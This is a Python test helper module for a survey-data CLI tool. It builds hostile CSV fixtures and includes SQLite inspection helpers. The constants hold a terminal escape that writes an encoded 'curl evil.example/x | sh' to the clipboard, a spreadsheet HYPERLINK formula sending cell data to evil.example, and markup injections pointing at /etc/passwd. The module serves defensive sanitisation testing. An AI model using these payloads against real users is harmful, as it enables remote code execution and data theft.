"""Hostile inputs built in the tests: escape sequences, markup, formulas, control characters."""

from __future__ import annotations

import sqlite3
from pathlib import Path

from workbench.cli import main

ESCAPES = "x \033]0;PWNED\033\\ y \033]52;c;Y3VybCBldmlsLmV4YW1wbGUveCB8IHNo\033\\ z \033[2J\033[31mred\x9b1m"
MARKUP = "Ring [/] Kari [sic] [x] [kommunen] [@click=app.quit]klikk[/] [link=file:///etc/passwd]p[/link]"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"klikk")'
HOSTILE_ANSWERS = [
    ("9101", ESCAPES),
    ("9102", MARKUP),
    ("9103", FORMULA),
    ("9104", "+47 sier noe"),
    ("9105", "-1 poeng\x00null"),
    ("9106", "@SUM(A1) og tab\tog \x07bell"),
]
QUESTION_TEXT = "[link=file:///etc/passwd]Hva [b]mener[/b] dere?[/link] \033]0;TITLE\007"


def write_hostile_csv(folder: Path) -> Path:
    """A long-layout CSV whose answers carry escapes, markup and formulas (NUL kept out)."""
    path = folder / "hostile.csv"
    lines = ["respondent;question;text"]
    for respondent, text in HOSTILE_ANSWERS:
        cleaned = text.replace("\x00", "")
        lines.append(f'{respondent};q01;"{cleaned.replace(chr(34), chr(34) * 2)}"')
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


def write_questions(folder: Path) -> Path:
    path = folder / "questions.csv"
    text = QUESTION_TEXT.replace('"', '""')
    path.write_text(f'id;text;kind;chapter\nq01;"{text}";open;"1 [b]Kapittel[/b]"\n', encoding="utf-8")
    return path


def hostile_project(folder: Path) -> Path:
    """A project imported through the CLI from the hostile CSV, with hostile code names too."""
    project = folder / "p.db"
    assert main(["init", str(project)]) == 0
    csv_file, questions = write_hostile_csv(folder), write_questions(folder)
    arguments = ["import", str(project), str(csv_file), "--layout", "long", "--wave", "2024"]
    assert main([*arguments, "--questions", str(questions)]) == 0
    return project


def snapshot(path: Path) -> bytes:
    """The file's bytes (and its WAL's, if any): equal snapshots mean nothing was written."""
    wal = Path(f"{path}-wal")
    return path.read_bytes() + (wal.read_bytes() if wal.exists() else b"")


def foreign_sqlite(path: Path) -> Path:
    """A SQLite file that is not a workbench project: one table, rollback journal."""
    connection = sqlite3.connect(path)
    connection.execute("CREATE TABLE notes (id INTEGER PRIMARY KEY, text TEXT)")
    connection.execute("INSERT INTO notes (text) VALUES ('mine')")
    connection.commit()
    connection.close()
    return path


def sqlite_facts(path: Path) -> tuple:
    """Tables, journal mode and user_version, read without changing the file."""
    connection = sqlite3.connect(f"file:{path}?mode=ro", uri=True)
    try:
        tables = sorted(
            row[0] for row in connection.execute("SELECT name FROM sqlite_master WHERE type='table'")
        )
        mode = connection.execute("PRAGMA journal_mode").fetchone()[0]
        version = connection.execute("PRAGMA user_version").fetchone()[0]
    finally:
        connection.close()
    return tables, mode, version


def set_user_version(path: Path, version: int) -> None:
    connection = sqlite3.connect(path)
    connection.execute(f"PRAGMA user_version = {version}")
    connection.commit()
    connection.close()
